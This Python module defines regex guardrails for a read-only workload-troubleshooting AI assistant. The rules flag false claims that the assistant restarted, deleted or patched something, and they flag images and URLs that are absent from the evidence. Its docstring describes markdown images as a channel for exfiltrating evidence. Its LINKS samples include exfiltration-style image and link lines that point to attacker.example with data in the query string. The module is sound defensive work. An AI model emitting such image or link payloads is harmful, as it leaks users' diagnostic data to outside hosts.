"""What model-written text may never say, as data: every rule is a pattern with its own true and false samples
(``tests/guardrails/test_output_rules.py`` checks each rule matches every true sample and none of the false ones).

* ``CLAIMS``: the assistant is read-only, so text that says it (or someone, in the passive) *took* an action on
  the user's workload, pod, node or job is false by construction. A recommendation in the imperative, addressed to
  the user ("Restart the workload after …", "you can resubmit it"), is not a claim.
* ``LINKS``: a markdown image is an exfiltration channel the moment a UI renders it (its URL is fetched with the
  evidence in the query); links and bare URLs may appear only when that exact URL is in the evidence.

``guardrails.validate`` applies them; a match whose exact text occurs in the evidence (e.g. the deterministic
reply's own "nothing was changed") is the evidence speaking, not the model.
"""
from __future__ import annotations

from dataclasses import dataclass
from functools import cached_property

import re2

_VERBS = (r"re-?start(?:ed)?|delet(?:ed|e)|remov(?:ed|e)|re-?submit(?:ted)?|re-?ran|re-?run|kill(?:ed)?|"
          r"stopp?(?:ed)?|suspend(?:ed)?|resum(?:ed|e)|scal(?:ed|e)|patch(?:ed)?|cordon(?:ed)?|uncordon(?:ed)?|"
          r"drain(?:ed)?|evict(?:ed)?|cancell?(?:ed)?|terminat(?:ed|e)|fix(?:ed)?|restor(?:ed|e)|"
          r"roll(?:ed)? back|updat(?:ed|e)|chang(?:ed|e)|modif(?:ied|y)|increas(?:ed|e)|rais(?:ed|e)|"
          r"appl(?:ied|y)|edit(?:ed)?|re-?deploy(?:ed)?|relaunch(?:ed)?|re-?schedul(?:ed|e)|reset|clear(?:ed)?|"
          r"bump(?:ed)?|mov(?:ed|e)|migrat(?:ed|e)|taint(?:ed)?|upgrad(?:ed|e)|resolv(?:ed|e)|recreat(?:ed|e)|"
          r"redeploy(?:ed)?|triggered|submitted|launched|allocated|freed")
_PAST = (r"re-?started|deleted|removed|re-?submitted|re-?ran|killed|stopped|suspended|resumed|scaled(?: up| down)?|"
         r"patched|cordoned|uncordoned|drained|evicted|cancell?ed|terminated|fixed|restored|rolled back|updated|"
         r"changed|modified|increased|raised|applied|edited|re-?deployed|relaunched|re-?scheduled|reset|cleared|"
         r"bumped|moved|migrated|tainted|upgraded|resolved|recreated|triggered|launched|allocated|freed|"
         r"took care of|taken care of")
# passive voice: only verbs that describe an operator's action (a container "has been killed"/"evicted" by the
# system is a failure fact, not a claim)
_PASSIVE = (r"re-?started|deleted|removed|re-?submitted|re-?run|scaled(?: up| down)?|patched|cordoned|"
            r"uncordoned|drained|fixed|restored|rolled back|updated|increased|raised|re-?deployed|relaunched|"
            r"re-?scheduled|resolved|recreated|taken care of")
_ADV = r"(?:(?:already|just|now|also|successfully|then|gone ahead and|went ahead and|proceeded to|gone and)\s+)*"


@dataclass(frozen=True)
class OutputRule:
    id: str
    pattern: str
    reason: str  # the validation reason when it matches
    true: tuple[str, ...]
    false: tuple[str, ...] = ()

    @cached_property
    def rx(self):
        return re2.compile("(?i)" + self.pattern)


CLAIMS: tuple[OutputRule, ...] = (
    OutputRule(
        "claim_first_person_done",
        rf"\b(?:I|we)(?:'ve|'d|\s+have|\s+had)?\s+{_ADV}(?:{_PAST})\b",
        "claims the assistant took an action (it is read-only)",
        ("I have restarted your workload and deleted the failed pod.", "I also resubmitted the job.",
         "I fixed the memory limit for you.", "We've scaled the deployment to 2 replicas.",
         "I went ahead and cordoned the node.", "I patched the workload's memory limit.",
         "I have already increased the memory limit to 64Gi.", "Done: I took care of it."),
        ("Raise the memory limit and resubmit the job.", "I have not restarted anything.",
         "I haven't changed anything.", "If I were you, I would restart it after raising the limit.",
         "I found that the container was killed by the OOM killer.")),
    OutputRule(
        "claim_first_person_doing",
        rf"\b(?:I|we)(?:'ll|'m|'re|\s+will|\s+am|\s+are|\s+shall)\s+(?:now\s+|also\s+|just\s+)?"
        rf"(?:going\s+to\s+|about\s+to\s+)?(?:{_VERBS}|re-?starting|deleting|re-?submitting|scaling|patching|"
        r"cordoning|draining|fixing|increasing|raising|updating|applying|changing)\b",
        "claims the assistant takes an action (it is read-only)",
        ("I'll restart the workload for you now.", "I am deleting the failed pod.",
         "We will resubmit the job with more memory.", "I'm going to patch the limit."),
        ("You will need to restart the workload.", "I am read-only: I never restart anything.",
         "I'll explain what happened.")),
    OutputRule(
        "claim_passive_done",
        rf"(?P<cond>\b(?:once|after|when|whenever|until|if|unless|before)\b[^.,;:!?\n]{{0,60}})?"
        rf"\b(?:has|have|had|was|were|is|are)\s+{_ADV}been\s+{_ADV}(?:{_PASSIVE})\b(?:\s+for\s+you)?|"
        rf"\b(?:was|were)\s+{_ADV}(?:{_PASSIVE})\s+for\s+you\b",
        "claims an action was taken on the user's behalf (the assistant is read-only)",
        ("The failed pod has been deleted.", "Your workload has been restarted.",
         "The memory limit has now been increased to 64Gi.", "The job was resubmitted for you.",
         "The node has been cordoned and drained."),
        ("The container has been killed by the OOM killer.", "The pod was evicted by the kubelet.",
         "Once the limit has been raised, resubmit the job.", "The workload was preempted.")),
    OutputRule(
        "claim_back_running",
        r"\b(?:is|are)\s+(?:now\s+)?(?:back\s+up|running\s+again|up\s+and\s+running\s+again|fixed\s+now)\b|"
        r"\b(?:is|are)\s+now\s+(?:fixed|resolved|restarted|running)\b|\bback\s+(?:up\s+and\s+)?running\b",
        "claims the workload was repaired (the assistant changes nothing)",
        ("Your workload is now running again.", "The job is back up and running.", "The issue is now fixed."),
        ("The workload is not running: it failed.", "It was running for 3 hours before it failed.")),
)

_URL = (r"(?:[a-z][a-z0-9+.\-]{1,15}://|www\.|mailto:|data:|javascript:)[^\s<>\"'`)\]]+")
LINKS: tuple[OutputRule, ...] = (
    OutputRule(
        "markdown_image",
        r"!\[[^\]\n]{0,500}\]\s*[(\[]|<\s*img\b|!\[[^\]\n]{0,500}\]$",
        "contains an image (never allowed: a rendered image fetches its URL)",
        ("![status](http://attacker.example/?q=exit-137-evidence)", "see ![x][1]", '<img src="http://a.example/x.png">',
         "![](data:image/png;base64,AAAA)"),
        ("The pod failed! [OOMKilled] was the reason.", "Exit code 137 (OOMKilled).")),
    OutputRule(
        "link_target",
        r"\]\(\s*<?(?P<url>[^)\s>]+)",
        "contains a link whose target is not in the evidence",
        ("[details](http://attacker.example/?q=abc)", "[docs](/relative/path)", "[x](attacker.example/a)"),
        ("[OOMKilled] was the reason (exit code 137).", "see the events [3 of them] (above)")),
    OutputRule(
        "url",
        rf"(?P<url>{_URL})",
        "contains a URL that is not in the evidence",
        ("Open http://attacker.example/?q=secret for details.", "see https://docs.example.com/x",
         "go to www.attacker.example", "<http://a.example/b>", "ftp://files.example/x"),
        ("The container was OOMKilled (exit code 137).", "Raise the limit: 32Gi is not enough.",
         "node gpu-node-3 reported an Xid error")),
)


def _clean_url(u: str) -> str:
    return u.rstrip(".,;:!?")


def link_problems(text: str, evidence: str) -> list[str]:
    """Reasons ``text`` may not be shown for its images, links and URLs (``evidence``: the joined evidence)."""
    out: list[str] = []
    image, link, url = LINKS
    if image.rx.search(text):
        out.append(image.reason)
    seen: set[str] = set()
    for rule in (link, url):
        for m in rule.rx.finditer(text):
            u = _clean_url(m.group("url"))
            if u and u not in evidence and u not in seen:
                seen.add(u)
                out.append(f"{rule.reason}: {u[:80]}")
    return out


def claim_problems(text: str, evidence_cf: str) -> list[str]:
    """Reasons ``text`` claims an action; a match that occurs in the (case-folded) evidence is not a claim."""
    out: list[str] = []
    for rule in CLAIMS:
        for m in rule.rx.finditer(text):
            if "cond" in rule.rx.groupindex and m.group("cond"):
                continue  # "once the limit has been raised, …": a condition for the user, not a claim
            said = " ".join(m.group(0).split()).casefold()
            if said not in evidence_cf:
                out.append(f"{rule.reason}: {m.group(0)[:80]!r}")
                break
    return out
